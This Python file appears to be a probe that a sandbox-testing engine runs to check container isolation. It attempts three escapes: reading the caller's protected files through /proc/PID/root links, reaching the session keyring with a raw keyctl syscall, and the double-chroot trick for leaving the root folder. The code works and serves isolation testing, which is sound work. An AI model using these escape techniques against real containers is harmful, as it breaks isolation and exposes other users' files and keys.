"""Try to escape from the container that this program runs in.

`engine.probe` starts it as `python -I -S -B attack.py SECRET...`, so it uses only the standard library. The arguments
are the paths of files that only the caller may read. The program prints a line for each attempt: `@out NAME: WHAT` if
the attempt succeeded, or else `@held NAME`.
"""

from __future__ import annotations

import ctypes
import os
import platform
import sys
from collections.abc import Callable, Sequence

_LIBC = ctypes.CDLL(None, use_errno=True)
# These are the numbers of the system call `keyctl`, by architecture.
_KEYCTL = {"x86_64": 250, "aarch64": 219, "ppc64le": 271, "s390x": 280, "riscv64": 219}
_GET_KEYRING_ID, _SESSION_KEYRING = 0, -3
_HOLDERS = ("/", "/tmp", "/dev", "/run", "/var")


def secret(paths: Sequence[str]) -> str:
    """Return the first path at which a file can be opened, or an empty string if there is none.

    Each of `paths` is also tried below the root and the working directory of every process whose root differs from
    this process's root or cannot be read.
    """
    others = [name for name in os.listdir("/proc") if name.isdigit() and not _has_our_root(name)]
    roots = ["", *(f"/proc/{pid}/{link}" for pid in others for link in ("root", "cwd"))]
    for path in (f"{root}{path}" for root in roots for path in paths):
        try:
            os.close(os.open(path, os.O_RDONLY))
        except OSError:
            continue
        return path
    return ""


def _has_our_root(pid: str) -> bool:
    try:
        return os.path.samestat(os.stat(f"/proc/{pid}/root/"), os.stat("/"))
    except OSError:
        return False


def keys(_: Sequence[str]) -> str:
    """Return a name for the session keyring if this process can reach it with `keyctl`, else an empty string.

    The string is also empty on an architecture that is not in `_KEYCTL`.
    """
    number = _KEYCTL.get(platform.machine())
    if number is None or _LIBC.syscall(number, _GET_KEYRING_ID, _SESSION_KEYRING, 1) < 0:
        return ""
    return "the session's keys"


def second_chroot(_: Sequence[str]) -> str:
    """Try to leave the root folder by a second chroot, and return a description of the root afterwards.

    Raises:
        OSError: no folder could be made for the second root, or a system call failed.
    """
    for folder in _HOLDERS:
        place = f"{folder.rstrip('/')}/second-root"
        try:
            os.mkdir(place)
        except OSError:
            continue
        top = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        before = os.stat("/")
        try:
            os.chroot(place)
            os.fchdir(top)
            for _number in range(64):
                os.chdir("..")
            os.chroot(".")
            moved = not os.path.samestat(before, os.stat("/"))
            return f"another root with {' '.join(sorted(os.listdir('/'))[:6])}" if moved else "a second root"
        finally:
            os.close(top)
            if os.path.isdir(place):
                os.rmdir(place)
    raise OSError("there is no place for a second root")


# The second chroot comes last, because it changes the root of this process.
ATTEMPTS: dict[str, Callable[[Sequence[str]], str]] = {
    "a file of the caller's": secret,
    "keyctl": keys,
    "a second chroot": second_chroot,
}


def main(argv: Sequence[str]) -> None:
    """Make all attempts, and print the result of each."""
    for name, attempt in ATTEMPTS.items():
        try:
            what = attempt(argv[1:])
        except OSError:
            what = ""
        sys.stdout.write(f"@out {name}: {what}\n" if what else f"@held {name}\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main(sys.argv)
